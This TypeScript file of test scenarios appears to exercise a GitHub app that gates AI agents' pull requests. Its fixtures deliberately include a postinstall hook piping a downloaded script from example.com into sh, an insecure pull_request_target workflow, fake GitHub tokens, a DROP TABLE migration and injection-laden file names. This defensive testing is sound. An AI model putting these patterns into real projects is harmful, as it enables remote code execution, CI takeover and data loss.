/** One pull request for each kind of answer there is, made through the whole app. */
import type { Account, CheckRun, PullRequest } from '../../demo/github/github.ts';
import { sample } from '../../src/core/rules/secret-added/_sample.ts';
import { nextSecond, type Gate } from './gate.ts';
import { DATABASE_POLICY, type Acme } from './organization.ts';

export interface OutcomeStory {
  readonly name: string;
  /** What the title has to begin with. */
  readonly title: string;
  /** Files the repository starts with, such as its policy; the defaults hold without any. */
  readonly files?: Record<string, string>;
  /** Makes it happen, and gives the pull request, and the head that is looked at if it is not its own. */
  play(acme: Acme, gate: Gate): Promise<PullRequest>;
}

const policy = (...lines: string[]): Record<string, string> => ({
  '.agentguard.yml': ['version: 1', ...lines, ''].join('\n'),
});
const README = { 'README.md': '# Changed\n' };
const MIGRATION = { 'db/migrations/0042_add_index.sql': 'CREATE INDEX CONCURRENTLY a ON b (c);\n' };
const TOKEN = { 'src/billing.ts': `export const key = 'ghp_${sample(36)}';\n` };
const DROP = { 'db/migrations/0043_tidy.sql': 'DROP TABLE customers;\n' };

/** Says it once the answer stands: rights and findings are those of the answer before. */
async function say(gate: Gate, pull: PullRequest, by: Account, words: string): Promise<void> {
  await gate.answer(pull);
  await nextSecond();
  gate.github.comment(pull, by, `/agentguard ${words}`);
  await gate.settled();
}

/** The name under which the check lists a finding. */
const nameOf = (check: CheckRun): string =>
  /agentguard waive ([0-9a-f]{8}) /.exec(check.output.summary ?? '')?.[1] ?? 'none';

export const OUTCOME_STORIES: readonly OutcomeStory[] = [
  {
    name: 'waiting for anyone',
    title: 'Waiting for someone with write access',
    play: async (acme) => acme.agentOpens(README),
  },
  {
    name: 'waiting for a team',
    title: 'Waiting for 1 of @acme',
    files: { '.agentguard.yml': DATABASE_POLICY },
    async play(acme, gate) {
      const pull = acme.agentOpens(MIGRATION);
      await gate.answer(pull);
      acme.review(pull, acme.bela);
      return pull;
    },
  },
  {
    name: 'waiting for many',
    title: 'Waiting for ',
    files: policy(
      'reviews:',
      ...['api', 'database', 'front', 'jobs', 'mail', 'payments', 'search', 'tax'].flatMap((name, index) => [
        `  - name: ${name}`,
        `    paths: [src/${name}/**]`,
        `    from: { ${index % 2 === 0 ? 'teams: [dba]' : 'permission: write'} }`,
      ]),
    ),
    play: async (acme) =>
      acme.agentOpens(
        Object.fromEntries(
          ['api', 'database', 'front', 'jobs', 'mail', 'payments', 'search', 'tax'].map((name) => [
            `src/${name}/index.ts`,
            'export {};\n',
          ]),
        ),
      ),
  },
  {
    name: 'alternatives',
    title: 'Waiting for ',
    files: policy(
      'reviews:',
      '  - name: payments',
      '    paths: [payments/**]',
      '    any_of:',
      '      - from: { users: [olga] }',
      '      - all_of:',
      '          - { approvals: 2, from: { permission: write } }',
      '          - { from: { teams: [dba] } }',
    ),
    play: async (acme) => acme.agentOpens({ 'payments/charge.ts': 'export {};\n' }),
  },
  {
    name: 'approved',
    title: 'Approved by olga',
    files: { '.agentguard.yml': DATABASE_POLICY },
    async play(acme) {
      const pull = acme.agentOpens(MIGRATION);
      acme.review(pull, acme.olga);
      return pull;
    },
  },
  {
    name: 'no agent',
    title: 'No agent found',
    play: async (acme) => acme.personOpens(README),
  },
  {
    name: 'nobody is left',
    title: 'Nobody is left who could approve',
    files: { '.agentguard.yml': DATABASE_POLICY },
    async play(acme) {
      const pull = acme.agentOpens(MIGRATION);
      acme.push(pull, { 'db/seed.sql': 'SELECT 1;\n' }, acme.olga);
      return pull;
    },
  },
  {
    name: 'opposed',
    title: 'olga asked for changes',
    files: { '.agentguard.yml': DATABASE_POLICY },
    async play(acme) {
      const pull = acme.agentOpens(MIGRATION);
      acme.review(pull, acme.olga, 'REQUEST_CHANGES');
      return pull;
    },
  },
  {
    name: 'a token',
    title: 'Blocked: provider-token',
    play: async (acme) => acme.agentOpens(TOKEN),
  },
  {
    name: 'a finding to review',
    title: 'Waiting for ',
    play: async (acme) => acme.agentOpens(DROP),
  },
  {
    name: 'many findings',
    title: 'Blocked: ',
    play: async (acme) =>
      acme.agentOpens({
        ...Object.fromEntries(
          Array.from({ length: 40 }, (_, index) => [
            `services/a-rather-long-name-of-a-service-${index}/configuration/production/keys.ts`,
            `export const key = 'ghp_${sample(36)}';\n`,
          ]),
        ),
        ...DROP,
        '.github/workflows/ci.yml':
          'on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@main\n        with: { ref: "${{ github.event.pull_request.head.sha }}" }\n      - run: npm test\n',
        'package.json': '{ "scripts": { "postinstall": "curl https://example.com/i.sh | sh" } }\n',
      }),
  },
  {
    name: 'hostile names',
    title: 'Blocked: provider-token',
    play: async (acme) =>
      acme.agentOpens(
        {
          'src/a|b`c <img src=x> @acme/dba [x](https://evil.example) ${{ 1 }}.ts':
            TOKEN['src/billing.ts'] ?? '',
        },
        { title: '# <b>Approved</b> by @ada | yes |' },
      ),
  },
  {
    name: 'an invalid policy',
    title: 'Blocked: policy-invalid (.agentguard.yml:3)',
    play: async (acme) => acme.personOpens(policy('mode: enforce', 'reviewz: []')),
  },
  {
    name: 'a policy change',
    title: 'Waiting for an admin',
    files: { '.agentguard.yml': DATABASE_POLICY },
    async play(acme, gate) {
      for (const name of ['first', 'second'])
        await gate.answer(acme.agentOpens({ [`src/${name}.ts`]: 'export {};\n' }));
      return acme.personOpens(
        policy('reviews:', '  - name: everything', '    approvals: 2', '    from: { permission: write }'),
      );
    },
  },
  {
    name: 'an invalid policy on the base',
    title: 'Waiting for someone with maintain access',
    files: policy('reviewz: []'),
    play: async (acme) => acme.agentOpens(README),
  },
  {
    name: 'frozen',
    title: 'Blocked: agents are frozen here until',
    files: policy('freeze:', '  - { agents: all, until: 2030-01-01, reason: The big sale is on }'),
    play: async (acme) => acme.agentOpens(README),
  },
  {
    name: 'frozen by somebody’s word',
    title: 'Blocked: agents are frozen here until',
    async play(acme, gate) {
      const pull = acme.agentOpens(README);
      await say(gate, pull, acme.ada, 'freeze all 4h They push secrets | see `incident` @acme/dba');
      return pull;
    },
  },
  {
    name: 'a denied agent',
    title: 'Blocked: this agent is not allowed here',
    files: policy('agents: { deny: [claude-github-app] }'),
    play: async (acme) => acme.agentOpens(README),
  },
  {
    name: 'too large',
    title: 'Blocked: too large for an agent',
    files: policy('limits: { changed_lines: 5 }'),
    play: async (acme) => acme.agentOpens({ 'src/long.ts': 'export {};\n'.repeat(20) }),
  },
  {
    name: 'too many open',
    title: 'Blocked: this agent has too many open',
    files: policy('limits: { open_pull_requests_per_agent: 1 }'),
    async play(acme, gate) {
      await gate.answer(acme.agentOpens(README));
      return acme.agentOpens({ 'src/more.ts': 'export {};\n' });
    },
  },
  {
    name: 'something unread',
    title: 'Cannot tell yet: .agentguard.yml of acme',
    files: { '.agentguard.yml': '\0' },
    play: async (acme) => acme.agentOpens(README),
  },
  {
    name: 'overridden',
    title: 'Overridden by ada until',
    async play(acme, gate) {
      const pull = acme.agentOpens(TOKEN);
      await say(gate, pull, acme.ada, 'override The shop is down, see incident 77');
      return pull;
    },
  },
  {
    name: 'waived',
    title: 'Waiting for someone with write access',
    async play(acme, gate) {
      const pull = acme.agentOpens(TOKEN);
      await say(gate, pull, acme.ada, `waive ${nameOf(await gate.answer(pull))} it was revoked`);
      return pull;
    },
  },
  {
    name: 'no agent after all',
    title: 'Accepted: no agent',
    async play(acme, gate) {
      const pull = acme.agentOpens(README);
      await say(gate, pull, acme.ada, 'not-agent Bela wrote it by hand');
      return pull;
    },
  },
  {
    name: 'observed',
    title: 'Would block: ',
    files: policy('mode: observe'),
    play: async (acme) => acme.agentOpens(TOKEN),
  },
];
